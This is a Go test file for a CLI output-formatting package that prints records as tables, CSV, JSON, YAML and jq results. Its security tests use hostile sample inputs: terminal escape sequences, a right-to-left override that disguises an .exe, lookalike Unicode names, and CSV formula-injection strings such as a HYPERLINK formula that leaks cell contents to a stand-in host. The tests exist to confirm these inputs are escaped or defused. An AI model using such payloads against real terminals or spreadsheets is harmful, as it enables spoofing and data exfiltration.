package output

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

type inner struct {
	Ref string `json:"ref"`
}

type thing struct {
	ID    string          `json:"id"`
	Owner inner           `json:"owner"`
	Bits  float64         `json:"bits"`
	Seq   uint64          `json:"seq"`
	OK    bool            `json:"ok"`
	Tags  []string        `json:"tags,omitempty"`
	Seen  *time.Time      `json:"seen,omitempty"`
	Raw   json.RawMessage `json:"raw,omitempty"`
	Next  *inner          `json:"next,omitempty"`
	Quiet string          `json:"-"`
}

type nested struct {
	thing
	Note string `json:"note"`
}

var (
	columns = Columns[thing]("id owner=owner.ref bits ok | seq tags seen raw")
	seen    = time.Date(2026, 3, 1, 13, 0, 0, 0, time.FixedZone("", 3600))
	things  = []thing{{ID: "a", Owner: inner{"mara@kestrel.example"}, Bits: 13.25, Seq: 1 << 63, OK: true, Tags: []string{"x", "y"}, Seen: &seen}, {ID: "long-id"}}
)

// printed prints things in a form and returns what came out.
func printed(t *testing.T, f Form, print func(*Form) error) string {
	t.Helper()
	var out bytes.Buffer
	f.Out = &out
	if err := f.Check(); err != nil {
		t.Fatal(err)
	}
	if err := print(&f); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestAListIsPrintedInEveryForm(t *testing.T) {
	for _, tt := range []struct {
		name string
		form Form
		want string
	}{
		{"table", Form{Format: "table"}, "ID       OWNER                 BITS  OK\na        mara@kestrel.example  13.2  yes\nlong-id  -                     0.0   no\n"},
		{"wide", Form{Format: "wide"}, "ID       OWNER                 BITS  OK   SEQ                  TAGS  SEEN                  RAW\n" +
			"a        mara@kestrel.example  13.2  yes  9223372036854775808  x,y   2026-03-01T12:00:00Z  -\nlong-id  -                     0.0   no   0                    -     -                     -\n"},
		{"csv", Form{Format: "csv"}, "id,owner,bits,ok,seq,tags,seen,raw\na,mara@kestrel.example,13.2,yes,9223372036854775808,\"x,y\",2026-03-01T12:00:00Z,\nlong-id,,0.0,no,0,,,\n"},
		{"fields", Form{Format: "table", Pick: []string{"seq", "id"}}, "[\n  {\n    \"seq\": 9223372036854775808,\n    \"id\": \"a\"\n  },\n  {\n    \"seq\": 0,\n    \"id\": \"long-id\"\n  }\n]\n"},
		{"a field that is left out is null", Form{Format: "json", Pick: []string{"tags"}, Filter: ".[1]"}, "{\"tags\":null}\n"},
		{"jq", Form{Format: "table", Filter: ".[].id"}, "a\nlong-id\n"},
		{"jq keeps long numbers", Form{Format: "table", Filter: ".[0].seq"}, "9223372036854775808\n"},
		{"jq that halts", Form{Format: "table", Filter: ".[0].id, halt"}, "a\n"},
		{"yaml", Form{Format: "yaml", Pick: []string{"id", "owner"}}, "- id: a\n  owner:\n    ref: mara@kestrel.example\n- id: long-id\n  owner:\n    ref: \"\"\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := printed(t, tt.form, func(f *Form) error { return List(f, things, columns) })
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestAnEmptyListIsAnArrayOrAHeading(t *testing.T) {
	for format, want := range map[string]string{"json": "[]\n", "table": "ID  OWNER  BITS  OK\n", "csv": "id,owner,bits,ok,seq,tags,seen,raw\n"} {
		if got := printed(t, Form{Format: format}, func(f *Form) error { return List[thing](f, nil, columns) }); got != want {
			t.Errorf("%s: got %q, want %q", format, got, want)
		}
	}
}

func TestOneThingIsAnObjectOrALineForEachColumn(t *testing.T) {
	got := printed(t, Form{Format: "table"}, func(f *Form) error { return One(f, things[1], columns) })
	if want := "ID     long-id\nOWNER  -\nBITS   0.0\nOK     no\nSEQ    0\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	got = printed(t, Form{Format: "json", Pick: []string{"id"}}, func(f *Form) error { return One(f, things[1], columns) })
	if want := "{\n  \"id\": \"long-id\"\n}\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestWhatComesOneByOneIsALineEach(t *testing.T) {
	for _, tt := range []struct{ format, want string }{
		{"json", "{\"id\":\"a\"}\n{\"id\":\"long-id\"}\n"},
		{"yaml", "---\nid: a\n---\nid: long-id\n"},
	} {
		got := printed(t, Form{Format: tt.format, Pick: []string{"id"}}, func(f *Form) error {
			rows := Follow(f, columns)
			return errors.Join(rows.Add(things[0]), rows.Add(things[1]))
		})
		if got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.format, got, tt.want)
		}
	}
	got := printed(t, Form{Format: "table"}, func(f *Form) error {
		rows := Follow(f, columns[:2])
		return errors.Join(rows.Add(things[0]), rows.Add(things[1]))
	})
	if want := "ID  OWNER\na   mara@kestrel.example\nlong-id  -\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	got = printed(t, Form{Format: "csv"}, func(f *Form) error {
		rows := Follow(f, columns[:2])
		return errors.Join(rows.Add(things[0]), rows.Add(things[1]))
	})
	if want := "id,owner\na,mara@kestrel.example\nlong-id,\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestWrongWordsAreRefusedBeforeAnythingIsPrinted(t *testing.T) {
	for _, tt := range []struct {
		form Form
		want string
	}{
		{Form{Format: "xml"}, `there is no form of output "xml"`},
		{Form{Format: "json", Pick: []string{"nope"}, Known: []string{"id", "bits"}}, `there is no field "nope"; choose from id,bits`},
		{Form{Format: "json", Filter: ".["}, "--jq"},
		{Form{Format: "json", Filter: "nosuchfunction"}, "--jq"},
	} {
		if err := tt.form.Check(); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("Check() = %v, want %q", err, tt.want)
		}
	}
	f := Form{Out: &bytes.Buffer{}, Format: "json", Filter: ".[0] | error"}
	if err := f.Check(); err != nil {
		t.Fatal(err)
	}
	if err := f.Object(things); err == nil {
		t.Error("an expression that errs is no error")
	}
}

// The attack: a name with an escape sequence rewrites what the terminal
// shows, a mark of direction makes gnp.exe look like a picture.
func TestHostileTextIsVisibleInEveryForm(t *testing.T) {
	evil := thing{ID: "a\x1b[2J\x1b]0;owned\x07\u202egnp.exe\u200b\u2028\u009b31m\U000e0041", Owner: inner{"x\r\ny\tz"}}
	for _, format := range Formats {
		for _, filter := range []string{"", ".id"} {
			got := printed(t, Form{Format: format, Filter: filter, Terminal: true}, func(f *Form) error { return One(f, evil, columns) })
			for _, r := range got {
				if r != '\n' && !unicode.IsPrint(r) {
					t.Errorf("%s %s: %U is printed as it is: %q", format, filter, r, got)
				}
			}
		}
	}
}

func TestJSONKeepsItsValueWhenHiddenTextIsEscaped(t *testing.T) {
	evil := thing{ID: "\x7f\u202e\u009b\U000e0041é漢😀\u2028\\u202e\"<>&"}
	var back thing
	if err := json.Unmarshal([]byte(printed(t, Form{Format: "json"}, func(f *Form) error { return f.Object(evil) })), &back); err != nil {
		t.Fatal(err)
	}
	if back.ID != evil.ID {
		t.Errorf("got %q, want %q", back.ID, evil.ID)
	}
}

// The attack: a name that a spreadsheet computes, and so sends cells away.
func TestFormulasAreDefusedInCSV(t *testing.T) {
	for _, name := range []string{`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(A1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"} {
		got := printed(t, Form{Format: "csv"}, func(f *Form) error { return List(f, []thing{{ID: name}}, columns[:1]) })
		if cell := strings.TrimPrefix(strings.Trim(strings.Split(got, "\n")[1], `"`), `"`); cell[0] != '\'' {
			t.Errorf("%s is printed as %q", name, cell)
		}
	}
}

func TestColourIsOnlyForKnownWordsAndOnlyWhenAsked(t *testing.T) {
	words := []thing{{ID: "deny"}, {ID: "else"}}
	got := printed(t, Form{Format: "table", Colour: true}, func(f *Form) error { return List(f, words, columns[:1]) })
	if want := "ID\n\x1b[31mdeny\x1b[0m\nelse\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if got := printed(t, Form{Format: "table"}, func(f *Form) error { return List(f, words, columns[:1]) }); strings.Contains(got, "\x1b") {
		t.Errorf("colour without asking: %q", got)
	}
}

func TestFieldsAreThoseOfTheJSON(t *testing.T) {
	want := []string{"id", "owner", "bits", "seq", "ok", "tags", "seen", "raw", "next", "note"}
	if diff := cmp.Diff(want, Fields[nested]()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestAColumnLeadsThroughAPointerOrToNothing(t *testing.T) {
	next := Columns[thing]("next.ref")
	if got := next[0].Of(thing{Next: &inner{"x"}}) + "|" + next[0].Of(thing{}); got != "x|" {
		t.Errorf("got %q", got)
	}
}

func TestAColumnThatIsNotThereIsABug(t *testing.T) {
	defer func() {
		if p := recover(); p == nil || !strings.Contains(fmt.Sprint(p), `no field "nope"`) {
			t.Errorf("recovered %v", p)
		}
	}()
	Columns[thing]("id nope")
}

func FuzzVisible(f *testing.F) {
	f.Add("plain")
	f.Add("\x1b[31m\xff\u202e\U000e0041")
	f.Fuzz(func(t *testing.T, text string) {
		got := Visible(text)
		if !utf8.ValidString(got) || strings.ContainsFunc(got, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Errorf("Visible(%q) = %q", text, got)
		}
		if Visible(got) != got {
			t.Errorf("Visible is not stable on %q", got)
		}
	})
}

func FuzzVisibleJSON(f *testing.F) {
	f.Add("a\u202e\x7f😀")
	f.Fuzz(func(t *testing.T, text string) {
		data, err := encode(text)
		if err != nil {
			return // not text that JSON can carry
		}
		var want, got string
		if json.Unmarshal(data, &want) != nil {
			return // not text that JSON can carry
		}
		if err := json.Unmarshal(visibleJSON(data), &got); err != nil || got != want {
			t.Errorf("got %q (%v), want %q", got, err, want)
		}
	})
}

func TestABarIsDrawnOnlyOnATerminal(t *testing.T) {
	var out bytes.Buffer
	b := &Bar{W: &out}
	b.To(1, "1 file")
	b.End()
	if out.Len() > 0 {
		t.Errorf("drawn: %q", out.String())
	}
	b = &Bar{W: &out, On: true, Total: 10}
	if _, err := b.Reader(strings.NewReader("12345")).Read(make([]byte, 5)); err != nil {
		t.Fatal(err)
	}
	b.End()
	if got := out.String(); !strings.Contains(got, "[===============               ]  50 %  5 B") || !strings.HasSuffix(got, "\r\x1b[K") {
		t.Errorf("drawn: %q", got)
	}
}

func TestSizesAndCountsReadLikeWords(t *testing.T) {
	for n, want := range map[int64]string{0: "0 B", 1 << 10: "1.0 kB", 3 << 19: "1.5 MB", 5 << 30: "5.0 GB"} {
		if got := Size(n); got != want {
			t.Errorf("Size(%d) = %s, want %s", n, got, want)
		}
	}
	if got := Count(1, "file", "files") + ", " + Count(2, "file", "files"); got != "1 file, 2 files" {
		t.Error(got)
	}
}

func ExampleColumns() {
	type credential struct {
		ID    string `json:"id"`
		State string `json:"state"`
	}
	f := &Form{Out: os.Stdout, Format: "table"}
	_ = List(f, []credential{{"crd_a", "active"}, {"crd_b\x1b[2J", "suspended"}}, Columns[credential]("id now=state"))
	// Output:
	// ID            NOW
	// crd_a         active
	// crd_b\x1b[2J  suspended
}

func TestLettersThatPretendToBeOthersAreVisible(t *testing.T) {
	for in, want := range map[string]string{
		"paypal": "paypal", "p\u0430ypal": `p\u0430ypal`, "\u0430\u0440\u0440\u04cf\u0435": "\u0430\u0440\u0440\u04cf\u0435", "Gr\u00f6\u00dfe": "Gr\u00f6\u00dfe", "5 \u00b5s": "5 \u00b5s",
		"prod-\u043e\u0442\u0447\u0451\u0442": "prod-\u043e\u0442\u0447\u0451\u0442", "go\u03bfgle.\u03b1": `go\u03bfgle.` + "\u03b1", "\u6771\u4eactower": "\u6771\u4eactower", "": "",
	} {
		if got := Unmixed(in); got != want {
			t.Errorf("Unmixed(%q) = %q, want %q", in, got, want)
		}
	}
}
